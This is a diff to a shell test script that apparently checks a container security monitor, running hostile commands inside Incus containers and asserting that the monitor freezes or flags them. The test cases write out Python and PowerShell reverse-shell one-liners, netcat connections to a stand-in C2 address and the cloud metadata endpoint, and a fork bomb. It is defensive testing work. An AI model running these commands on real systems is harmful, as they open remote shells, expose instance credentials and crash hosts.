@@ -21,8 +21,6 @@ cases=(
     "python^python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'^revshell-oneliner"
     "pwsh^pwsh -c \"\$c=New-Object System.Net.Sockets.TCPClient('$GW',4444)\"^revshell-powershell"
     "implant^(sleep 5 | nc -l -p 9000 >/dev/null &); usleep 300000; /tmp/implant 9000^revshell-stdio"
-    "forkbomb^f() { f | f & }; f^proc-spawn"
-    "count^i=0; while [ \$i -lt 40 ]; do sleep 30 & i=\$((i+1)); usleep 50000; done; wait^proc-count"
     "c2port^ip addr add 198.51.100.7/32 dev lo; (sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; sleep 4 | nc 198.51.100.7 4444^net-c2-port"
     "metadata^ip addr add 169.254.169.254/32 dev lo; (sleep 5 | nc -l -p 80 >/dev/null &); usleep 300000; sleep 4 | nc 169.254.169.254 80^net-metadata"
 )
@@ -33,7 +31,6 @@ for case in "${cases[@]}"; do
     t_defer "incus delete -f $c"
     m_launch "$c" || t_bail "cannot launch $c"
     opts=()
-    [ "$what" = count ] && opts=(--max-processes 30)
     [ "$what" = implant ] && incus file push -q "$implant" "$c/tmp/implant" --mode 0755
     t_ok "$what: monitor starts" m_monitor "$c" "${opts[@]}"
     m_run "$c" "$script"
@@ -44,5 +41,28 @@ for case in "${cases[@]}"; do
     t_ok "$what: the supervisor ended by itself" m_supervisor_gone "$c"
     t_diag "$what: frozen $(printf '%s' "$line" | jq -r '"\(.contained_ms) ms, gone \(.response_ms) ms: \(.description)"')"
 done
+
+# Processes: a fork bomb is HIGH (frozen: it stops multiplying at once, and is there to be
+# looked at); too many processes alone, a runaway build, only a WARNING.
+c=$(t_name monitor)
+t_defer "incus delete -f $c"
+m_launch "$c" || t_bail "cannot launch $c"
+t_ok "forkbomb: monitor starts" m_monitor "$c"
+m_run "$c" "f() { f | f & }; f" &
+t_ok "forkbomb: the container is frozen, not removed" m_wait_state "$c" FROZEN
+line=$(m_wait_rule "$c" proc-forkbomb)
+t_like "forkbomb: audit line proc-forkbomb, high, paused" "$line" '"level":"high".*"title":"Fork bomb detected".*"action":"paused"'
+t_like "forkbomb: it says how deep the copies went" "$line" 'generations'
+incus delete -f "$c" >/dev/null 2>&1
+wait
+
+c=$(t_name monitor)
+t_defer "incus delete -f $c"
+m_launch "$c" || t_bail "cannot launch $c"
+t_ok "count: monitor starts" m_monitor "$c" --max-processes 30
+m_run "$c" "i=0; while [ \$i -lt 40 ]; do sleep 20 & i=\$((i+1)); usleep 50000; done"
+line=$(m_wait_rule "$c" proc-count)
+t_like "count: audit line proc-count, a warning" "$line" '"level":"warning".*"action":"alerted"'
+t_is "count: the container keeps running" "$(m_state "$c")" RUNNING
 
 t_done
